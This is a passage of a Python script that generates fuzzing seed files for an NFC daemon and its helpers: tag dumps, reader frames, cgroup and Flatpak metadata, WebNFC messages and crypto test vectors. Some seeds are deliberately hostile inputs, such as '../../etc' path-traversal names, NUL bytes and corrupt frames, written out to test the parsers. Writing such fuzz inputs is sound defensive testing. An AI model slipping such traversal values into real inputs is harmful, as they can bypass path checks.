    slix2 = bytes([0xE0, 0x04, 0x01, 0x08, 0x11, 0x22, 0x33, 0x44])
    info = bytes([0x00, 0x0F]) + slix2[::-1] + bytes([0x00, 0x00, 19, 3, 0x01])
    seeds['type5-signature'] = bytes([4, 0x10]) + answer(info) + answer(b'\x00' + t5[:4]) + \
        answer(b'\x00' + bytes(range(0x20, 0x40))) + answer(b'\x00' + t5[4:52])

    # Type 1 (Topaz 96): RID, then RALL (HR0 HR1 and 120 bytes).
    topaz = bytes([0x04, 0x11, 0x22, 0x33, 0x44, 0x55, 0x66, 0x00, 0xE1, 0x10, 0x0E, 0x00]) + ntag_tlv
    topaz += bytes(120 - len(topaz))
    seeds['type1'] = bytes([0, 0x10]) + answer(bytes([0x11, 0x48]) + topaz[:4]) + answer(bytes([0x11, 0x48]) + topaz)

    # Type 3: Check of the attribute block, then of the message's blocks (Nbr 4).
    idm = bytes([0x01, 0x2E, 0x3D, 0x4C, 0x5B, 0x6A, 0x79, 0x88])
    attribute = bytes([0x10, 0x04, 0x01, 0x00, 0x0D, 0, 0, 0, 0, 0x00, 0x01]) + struct.pack('>I', len(poster))[1:]
    attribute += struct.pack('>H', sum(attribute) & 0xFFFF)
    def check(blocks):
        body = bytes([0x07]) + idm + bytes([0, 0, len(blocks) // 16]) + blocks
        return answer(bytes([len(body) + 1]) + body)
    data = poster + bytes(-len(poster) % 16)
    seeds['type3'] = bytes([2, 0x10]) + check(attribute) + check(data[:64])

    # MIFARE Classic 1K: sector 0 (MAD1: sector 1 is NDEF), then sector 1.
    mad = bytearray(32)
    mad[1] = 0x01
    mad[2:4] = b'\x03\xe1'
    crc = 0xC7
    for byte in mad[1:]:
        crc ^= byte
        for _ in range(8):
            crc = ((crc << 1) ^ 0x1D) & 0xFF if crc & 0x80 else (crc << 1) & 0xFF
    mad[0] = crc
    sector1 = ntag_tlv + bytes(48 - len(ntag_tlv))
    seeds['classic'] = bytes([5, 0x10]) + answer() + answer(bytes(mad[:16])) + answer(bytes(mad[16:])) + \
        answer(bytes(6) + bytes([0x78, 0x77, 0x88, 0xC1]) + bytes(6)) + answer() + b''.join(answer(sector1[i:i + 16]) for i in (0, 16, 32))
    seeds['classic-refused'] = bytes([5, 0x10]) + answer(b'\x04')
    # The same scripts for the drivers' status, writes and make-read-only (byte 0 + 6 × operation):
    # a write answers a Type 2 WRITE with an ACK (0x0A), so the reads' scripts start it off.
    for name, script in list(seeds.items()):
        for operation, label in ((1, 'status'), (2, 'write'), (3, 'write-long'), (4, 'lock')):
            acks = b''.join(answer(b'\x0a') for _ in range(8))
            seeds[f'{name}-{label}'] = bytes([script[0] + 6 * operation]) + script[1:] + acks
    return seeds

def pn532_frame(tfi, data):
    """A PN532 information frame (normal, or extended past 254 bytes) as on the wire."""
    length = len(data) + 1
    if length < 0xFF:
        head = bytes([0x00, 0x00, 0xFF, length, (-length) & 0xFF])
    else:
        hi, lo = length >> 8, length & 0xFF
        head = bytes([0x00, 0x00, 0xFF, 0xFF, 0xFF, hi, lo, (-(hi + lo)) & 0xFF])
    return head + bytes([tfi]) + data + bytes([(-(tfi + sum(data))) & 0xFF, 0x00])


def pn532frame_seeds():
    """Host sessions as libnfc's pn532_uart writes them (first byte: how the rest is cut into
    reads), and a few broken frames (see targets/pn532frame.swift)."""
    host = lambda code, params=b'': pn532_frame(0xD4, bytes([code]) + params)
    ack = bytes([0x00, 0x00, 0xFF, 0x00, 0xFF, 0x00])
    wake = bytes([0x55, 0x55, 0x00, 0x00, 0x00])
    listing = host(0x4A, b'\x01\x00')
    return {
        'init': b'\x03' + wake + host(0x14, b'\x01\x14\x01') + host(0x02) + host(0x06, b'\x63\x02\x63\x03'),
        'list-and-exchange': b'\x00' + listing + host(0x40, b'\x01\x00\xa4\x04\x00\x07\xd2\x76\x00\x00\x85\x01\x01\x00'),
        'communicate-thru': b'\x07' + host(0x08, b'\x63\x02\x80\x63\x03\x80') + listing + host(0x42, b'\x02\x00\xa4'),
        'autopoll': b'\x01' + host(0x60, b'\x01\x01\x00\x10\x20') + ack,
        'extended': b'\x0f' + pn532_frame(0xD4, b'\x40\x01' + bytes(range(256)) + b'\x00' * 6),
        'nack-error': b'\x02' + bytes([0x00, 0x00, 0xFF, 0xFF, 0x00, 0x00]) + bytes([0x00, 0x00, 0xFF, 0x01, 0xFF, 0x7F, 0x81, 0x00]),
        'bad-checksums': b'\x05' + bytes([0x00, 0x00, 0xFF, 0x03, 0x00, 0xD4, 0x02, 0x2A, 0x00]) + bytes([0x00, 0x00, 0xFF, 0x02, 0xFE, 0xD4, 0x02, 0x00, 0x00]),
        'jewel-felica': b'\x0b' + host(0x4A, b'\x01\x04') + host(0x4A, b'\x01\x01\x00\xff\xff\x01\x00') + host(0x40, b'\x01\x06\x00\x01\x0b\x00\x01\x80\x00'),
        # An extended frame of TFI 7F alone: its normal form is the error frame (found by the target).
        'extended-error-lookalike': b'\x02' + bytes.fromhex('0000ffffff0001ff7f8100'),
        'select-release': b'\x04' + listing + host(0x44, b'\x01') + host(0x54, b'\x01') + host(0x52, b'\x00') + host(0x16, b'\x20'),
    }


def vpcd(payload):
    return struct.pack('>H', len(payload)) + payload


def vpcdmessage_seeds():
    """What pcscd's vpcd driver sends: control codes and APDUs (first byte: read size - 1)."""
    return {
        'power-atr': b'\x00' + vpcd(b'\x01') + vpcd(b'\x04') + vpcd(b'\x00'),
        'apdus': b'\x02' + vpcd(b'\xff\xca\x00\x00\x00') + vpcd(b'\xff\xb0\x00\x04\x10') + vpcd(b'\x00\xa4\x04\x00\x07\xd2\x76\x00\x00\x85\x01\x01\x00'),
        'pass-through': b'\x10' + vpcd(b'\xff\x00\x00\x00\x03\xd4\x42\x60') + vpcd(b'\xff\xc2\x00\x00\x02\x81\x00\x00'),
        'unknown-control-and-empty': b'\x00' + vpcd(b'\x09') + vpcd(b'') + vpcd(b'\x02'),
        'cut-short': b'\x01' + vpcd(b'\xff\xca\x00\x00\x00') + b'\x01\x00\xff',
    }


def passthrough_seeds():
    """Answers of readers' pass-throughs (see targets/passthrough.swift)."""
    ok = b'\x90\x00'
    c0 = lambda index=0, sw=b'\x90\x00': b'\xc0\x03' + bytes([index]) + sw
    do = lambda tag, value: tag + (bytes([len(value)]) if len(value) < 0x80 else b'\x81' + bytes([len(value)])) + value
    return {
        'acr122u-firmware': b'\xd5\x03\x32\x01\x06\x07' + ok,
        'acr122u-get-version': b'\xd5\x43\x00\x00\x04\x04\x02\x01\x00\x13\x03' + ok,
        'acr122u-fast-read': b'\xd5\x43\x00' + bytes(range(252)) + ok,
        'acr122u-timeout': b'\xd5\x43\x01' + ok,
        'acr122u-nak': b'\xd5\x43\x02' + ok,
        'acr122u-data-exchange': b'\xd5\x41\x00\x11\x48\x92\x4b\x1c\x33' + ok,
        'failed': b'\x63\x00',
        'not-supported': b'\x6d\x00',
        'session-started': c0() + ok,
        'transparent-answer': c0() + do(b'\x97', bytes(range(200))) + ok,
        'transparent-silence': c0(2, b'\x64\x01') + ok,
        'transparent-unknown': c0(1, b'\x6a\x81') + ok,
        'transparent-two-byte-tags': b'\x5f\x46\x04\xa0\x86\x01\x00' + c0() + b'\x97\x82\x00\x01\x0a' + ok,
    }


def hexs(data, sep=' '):
    return sep.join('%02X' % b for b in data)


def flipper_header(device, uid, version=4):
    return ('Filetype: Flipper NFC device\nVersion: %d\n# comment\nDevice type: %s\nUID: %s\n'
            % (version, device, hexs(uid)))


def ntag213_image():
    uid = bytes([0x04, 0xA1, 0xB2, 0xC3, 0xD4, 0xE5, 0xF6])
    msg = encode(ndef.UriRecord('https://example.com'))
    head = uid[0:3] + bytes([0x88 ^ uid[0] ^ uid[1] ^ uid[2]]) + uid[3:7] + bytes([uid[3] ^ uid[4] ^ uid[5] ^ uid[6], 0x48, 0, 0])
    data = bytes([0xE1, 0x10, 0x12, 0x00, 0x03, len(msg)]) + msg + b'\xFE'
    return uid, (head + data).ljust(45 * 4, b'\x00')


def dumps_seeds():
    """Dump files for nfcsim --dump: each format with a message, and broken variants."""
    uid, image = ntag213_image()
    pages = ''.join('Page %d: %s\n' % (i, hexs(image[i * 4:i * 4 + 4])) for i in range(45))
    ntag = (flipper_header('NTAG/Ultralight', uid) + 'ATQA: 00 44\nSAK: 00\nNTAG/Ultralight type: NTAG213\n'
            'Mifare version: 00 04 04 02 01 00 0F 03\nCounter 0: 0\nPages total: 45\nPages read: 45\n' + pages)
    v2 = ntag.replace('Version: 4', 'Version: 2').replace('ATQA: 00 44', 'ATQA: 44 00')
    # A MIFARE Mini: MAD in sector 0, NDEF in sectors 1-4 (unread sector 4).
    cuid = bytes([0x5C, 0x2A, 0x91, 0xE3])
    msg = encode(ndef.UriRecord('https://example.com'))
    blocks = [cuid + bytes([cuid[0] ^ cuid[1] ^ cuid[2] ^ cuid[3], 0x09, 0x04, 0x00]) + bytes(8),
              bytes([0x00, 0x01]) + b'\x03\xE1' * 4 + bytes(6), bytes(16),
              bytes.fromhex('A0A1A2A3A4A5787788C1FFFFFFFFFFFF')]
    area = (bytes([0x03, len(msg)]) + msg + b'\xFE').ljust(48, b'\x00')
    for sector in range(1, 5):
        chunk = area if sector == 1 else bytes(48)
        blocks += [chunk[0:16], chunk[16:32], chunk[32:48], bytes.fromhex('D3F7D3F7D3F77F078840FFFFFFFFFFFF')]
    lines = ''.join('Block %d: %s\n' % (i, '?? ' * 15 + '??' if i >= 16 else hexs(b)) for i, b in enumerate(blocks))
    classic = (flipper_header('Mifare Classic', cuid) + 'ATQA: 00 04\nSAK: 09\nMifare Classic type: MINI\n'
               'Data format version: 2\n' + lines)
    t5 = bytes([0xE1, 0x40, 0x03, 0x01, 0x03, len(msg)]) + msg + b'\xFE'
    t5 = t5.ljust(28, b'\x00')
    slix = (flipper_header('SLIX', bytes([0xE0, 0x04, 0x01, 0x08, 0x11, 0x22, 0x33, 0x44])) +
            'DSFID: 00\nAFI: 00\nIC Reference: 01\nBlock Count: 7\nBlock Size: 04\nData Content: %s\n'
            'Privacy Mode: false\nSignature: %s\n' % (hexs(t5), hexs(bytes(range(0x20, 0x40)))))
    attribute = bytes([0x10, 0x04, 0x01, 0x00, 0x0D, 0, 0, 0, 0, 0x00, 0x01, 0x00, 0x00, len(msg)])
    attribute += sum(attribute).to_bytes(2, 'big')
    service = attribute + msg.ljust(32, b'\x00')
    felica = (flipper_header('FeliCa', bytes.fromhex('012E4CE1A2B3C4D5')) +
              'Manufacture id: 01 2E 4C E1 A2 B3 C4 D5\nManufacture parameter: 00 F1 00 00 00 01 43 00\nBlocks total: 28\n' +
              ''.join('Block %d: 00 00 %s\n' % (i, hexs(service[i * 16:i * 16 + 16])) for i in range(3)))
    mfu = json_text({'Created': 'proxmark3', 'FileType': 'mfu',
                     'Card': {'UID': hexs(uid, ''), 'Version': '0004040201000F03', 'Signature': '00' * 32,
                              'Counter0': '000000'},
                     'blocks': {str(i): hexs(image[i * 4:i * 4 + 4], '') for i in range(45)}})
    mfcard = json_text({'Created': 'proxmark3', 'FileType': 'mfcard',
                        'Card': {'UID': hexs(cuid, ''), 'ATQA': '0400', 'SAK': '09'},
                        'blocks': {str(i): hexs(b, '') for i, b in enumerate(blocks)},
                        'SectorKeys': {'1': {'KeyA': 'D3F7D3F7D3F7', 'KeyB': 'FFFFFFFFFFFF'}}})
    hf15 = json_text({'Created': 'proxmark3', 'FileType': '15693', 'raw': hexs(t5, '')})
    md_ul = json_text({'tagId': hexs(uid, ''), 'mifareUltralight': {
        'cardModel': 'NTAG213', 'pages': [{'data': hexs(image[i * 4:i * 4 + 4], '')} for i in range(45)]}})
    md_classic = json_text({'tagId': hexs(cuid, ''), 'mifareClassic': {'sectors': [
        {'blocks': [hexs(b, '') for b in blocks[s * 4:s * 4 + 4]], 'keyA': 'D3F7D3F7D3F7'} for s in range(4)] + [{}]}})
    md_felica = json_text({'tagId': '012e4ce1a2b3c4d5', 'felica': {'pMm': '00f1000000014300', 'systems': {
        '4860': {'services': {'11': {'blocksMap': {str(i): {'data': hexs(service[i * 16:i * 16 + 16], '')}
                                                    for i in range(3)}}}}}}})
    seeds = {
        'flipper-ntag213-v4': ntag, 'flipper-ntag213-v2': v2, 'flipper-mini': classic, 'flipper-slix': slix,
        'flipper-felica': felica, 'proxmark-mfu': mfu, 'proxmark-mfcard': mfcard, 'proxmark-15693': hf15,
        'metrodroid-ul': md_ul, 'metrodroid-classic': md_classic, 'metrodroid-felica': md_felica,
        # Broken ones: a duplicate page, a short page, a version from the future, JSON cut short.
        # A key read in part (found by the target: --save writes it as ??, so it must be unknown as a whole).
        'flipper-mini-partial-key': classic.replace('Block 7: D3 F7 D3 F7 D3 F7 7F 07 88 40 FF FF FF FF FF FF',
                                                    'Block 7: D3 F7 D3 F7 D3 F7 7F 07 88 40 FF ?? ?? ?? ?? ??'),
        'flipper-duplicate-page': ntag + 'Page 4: 00 00 00 00\n',
        'flipper-short-page': ntag.replace('Page 7: ', 'Page 7: 00 '),
        'flipper-version-9': ntag.replace('Version: 4', 'Version: 9'),
        'json-cut': mfu[:200],
    }
    out = {name: text.encode() for name, text in seeds.items()}
    out['raw-ntag213'] = image
    out['raw-mini'] = b''.join(blocks)
    return out


# ---------------------------------------------------------------------------
# cgroup: /proc/PID/cgroup of a D-Bus caller (SystemdScope): the unified line as desktops leave
# it, cgroup v1 with systemd's named hierarchy, units that name no app, names that break the rules.

def cgroup_seeds():
    user = b'0::/user.slice/user-1000.slice/user@1000.service/app.slice/'
    s = {}
    s['gnome-terminal'] = user + b'app-gnome-org.gnome.Terminal-3342.scope\n'
    s['kde-konsole'] = user + b'app-org.kde.konsole-1d8a5c3e0f2b4a7d9c6e8f1a2b3c4d5e.scope\n'
    s['flatpak'] = user + b'app-flatpak-org.gnome.Calculator-98765.scope\n'
    s['escaped'] = user + b'app-gnome-org.gnome.Evolution\\x2dalarm\\x2dnotify-2437.scope\n'
    s['autostart-service'] = user + b'app-org.gnome.Evolution\\x2dalarm\\x2dnotify@autostart.service\n'
    s['service-plain'] = user + b'app-kde-org.example.Tool.service\n'
    s['run-scope'] = user + b'run-u123.scope\n'
    s['session'] = b'0::/user.slice/user-1000.slice/session-2.scope\n'
    s['system-service'] = b'0::/system.slice/nfcscand.service\n'
    s['dbus-activated'] = user + b'app-dbus\\x2d:1.2\\x2dorg.gnome.Terminal.slice/dbus-:1.2-org.gnome.Terminal@0.service\n'
    s['nested'] = user + b'app-gnome-org.gnome.Terminal-3342.scope/app-org.example.Inner-7.scope/sub\n'
    s['v1'] = (b'12:pids:/user.slice/user-1000.slice/user@1000.service\n11:memory:/user.slice\n'
               b'1:name=systemd:/user.slice/user-1000.slice/user@1000.service/app.slice/app-gnome-org.gnome.gedit-4021.scope\n')
    s['hybrid'] = s['v1'] + user + b'app-gnome-org.gnome.Maps-99.scope\n'
    s['empty-id'] = user + b'app-.scope\n'
    s['double-dash'] = user + b'app--x-1.scope\n'
    s['escaped-slash'] = user + b'app-org\\x2f..\\x2fetc-1.scope\n'
    s['nul'] = user + b'app-org.example.A\x00-1.scope\n'
    s['not-utf8'] = user + b'app-org.ex\xc3\x28mple-1.scope\n'
    s['two-unified'] = user + b'app-org.example.A-1.scope\n' + user + b'app-org.example.B-1.scope\n'
    # Found by the target: a combining mark after the slash (one Character with it, in Swift).
    s['combining-slash'] = bytes.fromhex('2fd28710d28f0f7529d28f0fd28f29702c')
    return s


# flatpakinfo: /.flatpak-info as Flatpak lays it out (FlatpakInfo), and files no Flatpak writes.

def flatpakinfo_seeds():
    calculator = (b'[Application]\nname=org.gnome.Calculator\nruntime=runtime/org.gnome.Platform/x86_64/46\n\n'
                  b'[Instance]\ninstance-id=3372089519\ninstance-path=/home/ada/.var/app/org.gnome.Calculator\n'
                  b'app-path=/var/lib/flatpak/app/org.gnome.Calculator/x86_64/stable/8d2f05b4a1c0e6f3/files\n'
                  b'app-commit=8d2f05b4a1c0e6f3a9b7c5d3e1f20418a6b4c2d0e8f6a4b2c0d8e6f4a2b0c8d6\n'
                  b'runtime-path=/var/lib/flatpak/runtime/org.gnome.Platform/x86_64/46/0123456789abcdef/files\n'
                  b'runtime-extensions=org.gnome.Platform.Locale=3c4d5e6f70;org.freedesktop.Platform.GL.default=4d5e6f7081\n'
                  b'branch=stable\narch=x86_64\nflatpak-version=1.14.4\nsession-bus-proxy=true\nsystem-bus-proxy=true\n\n'
                  b'[Context]\nshared=network;ipc;\nsockets=x11;wayland;pulseaudio;fallback-x11;\ndevices=dri;\n'
                  b'filesystems=xdg-run/gvfsd;xdg-download;\n\n'
                  b'[Session Bus Policy]\norg.gtk.vfs.*=talk\nca.desrt.dconf=talk\n\n'
                  b'[Environment]\nGTK_USE_PORTAL=1\nLD_LIBRARY_PATH=/app/lib\n')
    s = {}
    s['calculator'] = calculator
    s['old-no-instance'] = b'[Application]\nname=org.example.Old\nruntime=runtime/org.freedesktop.Platform/x86_64/1.6\n'
    s['runtime'] = b'[Runtime]\nname=org.gnome.Sdk\n\n[Instance]\ninstance-id=12\n'
    s['both-groups'] = b'[Application]\nname=org.example.A\n[Runtime]\nname=org.example.B\n'
    s['two-names'] = b'[Application]\nname=org.example.A\nname=org.example.B\n'
    s['path-name'] = b'[Application]\nname=../../etc\n'
    s['escapes'] = b'[Application]\nname=org.example.A\n[Instance]\nbranch=a\\sb\\\\c\ninstance-id=\\q\n'
    s['crlf'] = b'# by hand\r\n[Application]\r\nname = org.example.A\r\n'
    s['not-utf8'] = b'[Application]\nname=org.example.\xff\xfe\n'
    s['no-group'] = b'name=org.example.A\n'
    return s


# sheetwire: the lines between nfcscand and nfcscan-sheet (SheetWire): views and events as each
# side writes them, escapes, and lines neither writes.

def sheetwire_seeds():
    s = {}
    s['looking'] = (b'view\tapp=Posters\ticon=org.example.Posters\tmessage=Hold the poster near the reader to learn more.'
                    b'\tdetail=\tmark=looking\tbutton=cancel normal Cancel')
    s['consent'] = (b'view\tapp=Posters\ticon=\tmessage=Posters wants to lock the poster.\tdetail=This can\'t be undone.'
                    b'\tmark=question\tbutton=cancel normal Cancel\tbutton=confirm destructive Lock')
    s['ending'] = b'view\tapp=\xe6\xb5\xb7\xe6\x8a\xa5\ticon=\tmessage=Done.\tdetail=\tmark=done\tclose-after=2000'
    s['escapes'] = b'view\tapp=a\\tb\\nc\\\\d\tmessage=x\\r\tmark=failed'
    s['pressed'] = b'pressed\tid=cancel'
    s['shown'] = b'shown'
    s['bad-escape'] = b'view\tmessage=\\q\tmark=done'
    s['five-buttons'] = b'view\tmessage=m\tmark=looking' + b'\tbutton=a normal A' * 5
    s['twice'] = b'view\tmessage=m\tmessage=n\tmark=done'
    return s


# webnfc: what the browser sends nfcscan's web host (framed JSON messages, a page's records) and
# NDEF messages a page reads (WebNFC).

def webnfc_seeds():
    import struct

    def framed(*messages):
        out = b''
        for message in messages:
            body = json_text(message).encode()
            out += struct.pack('<I', len(body)) + body
        return out
    hello = {'op': 'hello', 'origin': 'https://example.com', 'language': 'en-US'}
    focus = {'op': 'focus', 'active': True, 'visible': True}
    text = {'recordType': 'text', 'encoding': 'utf-8', 'lang': 'en', 'data': 'aGk='}
    poster = {'recordType': 'smart-poster', 'records': [{'recordType': 'url', 'data': 'aHR0cHM6Ly9leGFtcGxlLmNvbQ=='},
                                                        {'recordType': ':act', 'data': 'AA=='}]}
    external = {'recordType': 'example.com:item', 'records': [{'recordType': ':id', 'data': 'ACo='}]}
    s = {}
    s['scan'] = framed(hello, focus, {'op': 'scan', 'id': 1}, {'op': 'cancel', 'id': 1})
    s['write'] = framed(hello, focus, {'op': 'write', 'id': 2, 'records': [text, poster, external], 'overwrite': False})
    s['lock'] = framed(hello, {'op': 'makeReadOnly', 'id': 3})
    s['mime'] = framed(hello, {'op': 'write', 'id': 4, 'records': [{'recordType': 'mime', 'mediaType': 'application/json',
                                                                   'data': 'e30='}, {'recordType': 'empty'}]})
    s['bad-length'] = b'\xff\xff\xff\x7f{}'
    s['no-hello'] = framed({'op': 'scan', 'id': 1})
    s['bad-base64'] = framed(hello, {'op': 'write', 'id': 5, 'records': [{'recordType': 'unknown', 'data': '!!'}]})
    s['url-message'] = bytes.fromhex('d1010c55036578616d706c652e636f6d')
    inner = bytes([0x91, 1, 6]) + b'U' + b'\x04a.com' + bytes([0x51, 3, 1]) + b'act\x00'
    s['smart-poster-message'] = bytes([0xd1, 2, len(inner)]) + b'Sp' + inner
    idn = b'xn--hndvrker-9zan.dk:abc'
    s['idn-external-message'] = bytes([0xd4, len(idn), 1]) + idn + b'\x01'
    return s


# crypto: what LibCrypto hands OpenSSL (targets/crypto.swift): a selector byte, then fields each but
# the last led by a two-byte big-endian length. A real chip's originality signature (Proxmark3's
# self-test vector), RFC 4493's CMAC example, a self-signed EC certificate made once with openssl
# and a signature of b'signed data' by its key.

SEED_CERTIFICATE = bytes.fromhex(
    '308201c230820168a003020102021427c9ede9abc43306c12e9068db798b2e355d437d300a06082a8648ce3d040302303031143012'
    '060355040a0c0b4578616d706c65204c74643118301606035504030c0f4578616d706c65205369676e696e67301e170d3236313132'
    '373231353733345a170d3336313132343231353733345a303031143012060355040a0c0b4578616d706c65204c7464311830160603'
    '5504030c0f4578616d706c65205369676e696e673059301306072a8648ce3d020106082a8648ce3d03010703420004d38e79765326'
    '66682403fa7607a2b082faad1f757cea31a809fedb2988b5c08b896380bae50a018d26d220a6aa9c61777491ceb639535bcd6145fb'
    'a64932a047a360305e300c0603551d130101ff04023000300e0603551d0f0101ff040403020780301d0603551d0e04160414f58026'
    'ad2b65c81deb424b11ee38a19bc86e5856301f0603551d23041830168014f58026ad2b65c81deb424b11ee38a19bc86e5856300a0608'
    '2a8648ce3d0403020348003045022100849a89885becdd14401256afa53acaa90f28010d64e7a736d6e5e7acd28b4dde022050c681'
    'd1306062b34677b978edaea2954abdb5c81ebf44aec22657c4fbbf104e')
SEED_SIGNATURE = bytes.fromhex(
    '304402205b710683695cdfc51dba8cead6804bec10d1b16ef15f86d4358e8f4c3ccb301102200a9273205fc13a455349150dc8a476'
    '8d6e50cf8d732fc86d462f0415be2d2272')


def crypto_seeds():
    def fields(*values):
        return b''.join(struct.pack('>H', len(v)) + v for v in values[:-1]) + values[-1]
    ntag_key = bytes.fromhex('04494E1A386D3D3CFE3DC10E5DE68A499B1C202DB5B132393E89ED19FE5BE8BC61')
    ntag_signature = bytes.fromhex('8B76052EE42F5567BEB53238B3E3F9950707C0DCC956B5C5EFCFDB709B2D82B3')
    key = bytes.fromhex('2b7e151628aed2a6abf7158809cf4f3c')
    s = {}
    s['originality'] = b'\x00' + fields(ntag_key, bytes.fromhex('04E10CDA993C80'), ntag_signature)
    s['originality-224'] = b'\x08' + fields(b'\x04' + bytes(56), bytes(7), bytes(56))
    s['aes'] = b'\x02' + fields(key, bytes(range(16)), bytes.fromhex('6bc1bee22e409f96e93d7e117393172a'))
    s['certificate'] = b'\x04' + fields(SEED_CERTIFICATE, b'signed data', SEED_SIGNATURE)
    s['chain'] = b'\x0f' + fields(SEED_CERTIFICATE, SEED_CERTIFICATE)
    return s


# securelink: NTAG 424 DNA secure links (AN12196's), templates, keys files and counter files.
def securelink_seeds():
    return {
        'an12196-aes': b'https://ntag.nxp.com/424?e=EF963FF7828658A599F3041510671E88&c=94EED9EE65337086',
        'an12196-enc': b'https://e.com/?picc_data=FD91EC264309878BE6345CBE53BADF40&enc=CEE9A53E3E463EF1F459635736738962'
                       b'&cmac=ECC1E7F6C6C73BF6',
        'lrp-default': b'https://e.com/t?picc_data=1FCBE61B3E4CAD980CBFDD333E7A4AC4A579569BAFD22C5F&cmac=4231608BA7B02BA9',
        'template-placeholders': b'https://example.com/p?x={picc_data}&y={enc}&z={cmac}',
        'keys-file': b'# posters\n[poster]\nurl = https://example.com/t?picc_data={picc_data}&cmac={cmac}\nmode = lrp\n'
                     b'meta-read-key = 000102030405060708090a0b0c0d0e0f\nfile-read-key = 000102030405060708090a0b0c0d0e0f\n'
                     b'mac-input = picc_data\n',
        'counters': b'04a1b2c3d4e5f6 7\n04de5f1eacc040 61\nzz 1\n',
    }


def json_text(value):
    import json
    return json.dumps(value, separators=(',', ':'))


# sigcheck: messages with Signature records, as the check walks them
def sigcheck_seeds():
    m = message_seeds()
    s = {name: m[name] for name in ('signature-marker', 'signature-bytes-certs', 'signature-uris')}
    text, uri = ndef.TextRecord('poster'), ndef.UriRecord('https://example.com/poster')
    # r || s of P-256 (even last byte: the fuzz seam's "verifies"), a leaf and one intermediate,
    # then a second signature over the record after the first, DER this time, one certificate.
    raw = bytes(range(1, 65))
    der = bytes.fromhex('3006020101020102')
    s['sigcheck-two-signatures'] = encode(
        text, uri, ndef.SignatureRecord('ECDSA-P256', 'SHA-256', raw, '', 'X.509', [b'Example Ltd', b'CA'], None),
        text, ndef.SignatureRecord('ECDSA-P256', 'SHA-256', der, '', 'X.509', [b'Example Ltd'], None))
    s['sigcheck-rsa-covers-nothing'] = encode(
        ndef.SignatureRecord('RSASSA-PKCS1-v1_5-2048', 'SHA-256', bytes(256), '', 'X.509', [b'leaf'], None), text,
        ndef.SignatureRecord('RSASSA-PSS-1024', 'SHA-256', bytes(128), '', 'X.509', [b'leaf'], 'https://example.com/ca'))
    return s


def main():
    targets = {'message': message_seeds(), 'tlv': tlv_seeds(), 'cc': cc_seeds(), 'tagread': tagread_seeds(),
               'options': options_seeds(), 'config': config_seeds(), 'rfkill': rfkill_seeds(),
               'desktop': desktop_seeds(), 'dumps': dumps_seeds(), 'pn532frame': pn532frame_seeds(),
               'vpcdmessage': vpcdmessage_seeds(), 'passthrough': passthrough_seeds(), 'spool': spool_seeds(),
               'cgroup': cgroup_seeds(), 'flatpakinfo': flatpakinfo_seeds(),
               'sheetwire': sheetwire_seeds(), 'webnfc': webnfc_seeds(), 'crypto': crypto_seeds(),
               'securelink': securelink_seeds(), 'sigcheck': sigcheck_seeds()}
    for target, seeds in targets.items():
        directory = os.path.join(CORPUS, target)
        shutil.rmtree(directory, ignore_errors=True)
        os.makedirs(directory)
        for name, data in sorted(seeds.items()):
            assert 0 < len(data) <= 4096, (target, name, len(data))
            with open(os.path.join(directory, name), 'wb') as f:
                f.write(data)
        print('%s: %d seeds' % (target, len(seeds)))
    return 0


if __name__ == '__main__':
    sys.exit(main())
